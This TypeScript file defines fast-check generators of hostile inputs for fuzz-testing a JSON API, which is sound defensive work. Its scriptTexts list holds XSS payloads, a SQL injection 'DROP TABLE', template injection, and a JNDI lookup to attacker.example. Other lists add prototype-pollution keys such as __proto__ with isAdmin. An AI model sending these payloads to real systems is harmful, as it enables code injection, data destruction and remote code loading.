import fc from 'fast-check';

/** A JSON value, or a raw literal that JSON cannot hold (`NaN`, `1e999`) written as text. */
export type HostileValue = { json: unknown } | { rawLiteral: string };

export const scriptTexts = [
  '<script>alert(document.cookie)</script>',
  'javascript:alert(1)',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE users; --",
  '{{constructor.constructor("alert(1)")()}}',
  '${jndi:ldap://attacker.example/a}',
];

export const oddUnicode = [
  '\u202Egnp.exe',
  'a\u200Bb\u200Cc\u200Dd\uFEFF',
  '🚗💨🔑👩‍👩‍👧‍👦',
  '\uD800',
  'x\uDFFFy',
  'e\u0301\u0301\u0301\u0301\u0301',
  'null\u0000byte',
  'مرحبا بالعالم',
  '\u0009\u000B\u000C\u0085\u00A0\u2028\u2029',
];

/** Numbers JSON carries but no field wants. */
export const hostileNumbers = [
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  -1,
  0,
  -0,
  0.5,
  5e-324,
];

/** Literals a JSON parser refuses or turns into something odd (Infinity, a rounded integer). */
export const rawNumberLiterals = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '-1e999',
  '123456789012345678901234567890',
  '0x1F',
  '01',
  '+1',
  '.5',
];

/** A string of 10 kB to 1 MB: one repeated character, sometimes a multi-byte one. */
export const oversizedString: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 10_000, max: 1_000_000 }), fc.constantFrom('a', 'é', '🚗', '<'))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

/** Any string a hostile caller might send, short of oversized. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...scriptTexts),
  fc.constantFrom(...oddUnicode),
  fc.constantFrom('', ' ', '   \t\n', 'undefined', 'null', 'true', '0', '[]', '{}'),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** A value of any JSON type: the wrong one for most fields. */
export const anyJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.constantFrom(...hostileNumbers),
  hostileString,
  fc.constant([]),
  fc.array(hostileString, { minLength: 1, maxLength: 3 }),
  fc.constant({}),
  fc.dictionary(fc.string({ maxLength: 8 }), hostileString, { minKeys: 1, maxKeys: 3 }),
);

export const hostileValue: fc.Arbitrary<HostileValue> = fc.oneof(
  anyJsonValue.map((json) => ({ json })),
  oversizedString.map((json) => ({ json })),
  fc.constantFrom(...rawNumberLiterals).map((rawLiteral) => ({ rawLiteral })),
);

/** Bodies that are not JSON at all, or JSON of the wrong shape. */
export const nonJsonBodies = [
  'not json',
  '{"unterminated": ',
  "{'single': 'quotes'}",
  '<?xml version="1.0"?><a/>',
  '\uFEFF{}',
  '{"a":1,}',
  '[1,2',
  'undefined',
  '\u0000',
  '{"__proto__": {"isAdmin": true}, ',
];

export const wrongShapeBodies: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, 0, -1, 1e308, true, false, '', 'a string', [], [{}], [[]]),
  fc.array(anyJsonValue, { maxLength: 4 }),
);

/** Extra keys: unknown names, prototype-pollution names, and hostile names. */
export const extraKeyName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'isAdmin', 'pk', 'sk', 'owner'),
  fc.constantFrom(...scriptTexts, ...oddUnicode),
  fc.string({ minLength: 1, maxLength: 20 }),
);
